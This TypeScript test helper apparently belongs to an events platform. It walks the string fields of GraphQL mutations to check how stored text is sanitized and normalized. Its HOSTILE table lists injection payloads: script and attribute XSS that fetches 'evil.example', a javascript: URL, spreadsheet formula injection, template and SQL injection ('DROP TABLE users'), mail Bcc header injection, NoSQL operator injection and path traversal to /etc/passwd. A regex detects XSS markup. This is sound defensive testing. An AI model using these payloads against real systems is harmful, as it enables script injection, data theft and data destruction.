import { getNamedType, isInputObjectType, isListType, isNonNullType, type GraphQLInputType, type GraphQLSchema } from 'graphql';

import { lines } from '@marquee/shared/events/plain-text';
import { cleanStub } from '@marquee/shared/events/stub';

import { richText } from '#platform/text/rich-text';

/** Texts known to break software, each around a `mark` by which it is found again. */
export const HOSTILE: Readonly<Record<string, (mark: string) => string>> = {
  'a script': (mark) => `${mark}</title><svg/onload=alert(1)><script>fetch("//evil.example")</script>`,
  'an attribute': (mark) => `${mark}"><img src=x onerror=alert(1)>`,
  'an address that runs': (mark) => `javascript:alert(1)//${mark}`,
  'a formula': (mark) => `=HYPERLINK("evil.example","${mark}")`,
  'a formula by @': (mark) => `@SUM(1)${mark}`,
  'a formula after a tab': (mark) => `\t=1+1${mark}`,
  'right to left and zero width': (mark) => `${mark}\u202Eexe.\u202C\u2066x\u2069a\u200Bb\u2060c\uFEFFd`,
  'a null byte': (mark) => `${mark}a\u0000b`,
  'four bytes': (mark) => `${mark}🎟️👩🏽‍🎤𝔐`,
  'very long': (mark) => `${mark}${'long '.repeat(8000)}end`,
  'half a character': (mark) => `${mark}a\uD800b`,
  'a template': (mark) => `${mark}{{constructor.constructor("x")()}} \${7*7} <%= 7*7 %>'; DROP TABLE users; --`,
  'mail headers': (mark) => `${mark}\r\nBcc: evil@example.com\r\n\r\nbody`,
  'an operator': (mark) => `${mark}{"$ne": null, "$where": "sleep(1)"}`,
  'a path': (mark) => `../../${mark}/../etc/passwd%00?x=1#y`,
};

/** Detects a text that acts as markup when inserted into HTML unescaped. */
export function runsIn(html: string): boolean {
  return /<script>fetch|<img src=x|<svg\/onload|(?:href|src)\s*=\s*["']?\s*javascript:/i.test(html);
}

/** Every string field in a type, as `user.firstName`, `contacts[].email`. */
export function textPlaces(type: GraphQLInputType, path: string, depth = 6): string[] {
  if (isNonNullType(type)) return textPlaces(type.ofType, path, depth);
  if (isListType(type)) return textPlaces(type.ofType, `${path}[]`, depth);
  const named = getNamedType(type);
  if (!isInputObjectType(named)) return named.name === 'String' ? [path] : [];
  if (depth === 0) throw new Error(`${path} is nested deeper than this looks`);
  return Object.values(named.getFields()).flatMap((field) => textPlaces(field.type, `${path}.${field.name}`, depth - 1));
}

/** The string fields in the input of these mutations, as `register input.user.firstName`. */
export function textPlacesOf(schema: GraphQLSchema, mutations: readonly string[]): string[] {
  const fields = schema.getMutationType()!.getFields();
  return mutations.flatMap((name) =>
    fields[name]!.args.flatMap((arg) => textPlaces(arg.type, arg.name).map((place) => `${name} ${place}`)),
  );
}

/** `variables` with `value` at a path; creates missing parents. */
export function withTextAt(variables: object, place: string, value: string): object {
  const copy = structuredClone(variables) as Record<string, unknown>;
  const steps = place.split('.');
  let at = copy;
  for (const [index, step] of steps.entries()) {
    const isLast = index === steps.length - 1;
    const key = step.replace('[]', '');
    if (step.endsWith('[]')) {
      const list = (at[key] ??= []) as unknown[];
      if (isLast) list[0] = value;
      else at = (list[0] ??= {}) as Record<string, unknown>;
    } else if (isLast) at[key] = value;
    else at = (at[key] ??= {}) as Record<string, unknown>;
  }
  return copy;
}

const MADE_OF_IT = new Set(['nameTerms', 'searchTerms', 'stub']);

/** All texts in a record at any depth, except those only used for search: search terms and names in addresses. */
export function textsIn(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  if (Array.isArray(value)) return value.flatMap(textsIn);
  if (value === null || typeof value !== 'object' || value instanceof Date || '_bsontype' in value) return [];
  return Object.entries(value).flatMap(([key, part]) => (MADE_OF_IT.has(key) ? [] : textsIn(part)));
}

/** Zero-width characters, and controls of text direction. */
const HIDDEN = /[\u200B\u2060\uFEFF\u202A-\u202E\u2066-\u2069]/gu;

/** Texts that others read in mails, lists and on public pages: without invisible characters. */
const NAMES = [
  /(^|\.)(firstName|lastName|orgName)$/,
  /^joinWaitList input\.name$/,
  /^(create|save|import)SeatingPlan (input\.)?name$/,
  /^(create|update)(Artist|Venue) input\.(name|genres\[\]|address\.address1|contacts\[\]\.(name|role)|pressKits\[\]\.title|venueGlobalId|willCallInstructions)$/,
  /^(create|update)(Event|Fee|Season|SeasonUpgrades) /,
];

/** HTML, which is sanitized. */
const HTML = [
  /^(create|update)(Artist|Venue) .*\.description$/,
  /^(create|update)(Event|Season) [^[]*\.(description|userAgreement|eventEmailBody)$/,
];

export const isHtml = (place: string): boolean => HTML.some((pattern) => pattern.test(place));

/**
 * The allowed stored forms of a text at a place: unchanged, or normalized by its rule: trimmed, line breaks, tabs and control characters as
 * spaces, or each line trimmed, and runs of spaces as one or (names of organizations) as five; names always without hidden characters.
 * Only letters, digits and hyphens are left of a public address.
 */
export function tidied(sent: string, place: string): string[] {
  if (isHtml(place)) return [richText(sent) ?? '', lines(richText(sent)) ?? ''];
  if (place.endsWith('.stub')) return [cleanStub(sent), cleanStub(sent).toLowerCase()];
  const text = NAMES.some((pattern) => pattern.test(place)) ? sent.replaceAll(HIDDEN, '') : sent;
  const spaces = text.replaceAll(/[\s\p{Cc}]/gu, ' ');
  const trimmed = text.split('\n').map((line) => line.trimEnd());
  return [
    text,
    text.trim(),
    trimmed.join('\n').trim(),
    spaces.trim(),
    spaces.replaceAll(/ {6,}/g, '     ').trim(),
    spaces.replaceAll(/ +/g, ' ').trim(),
  ];
}
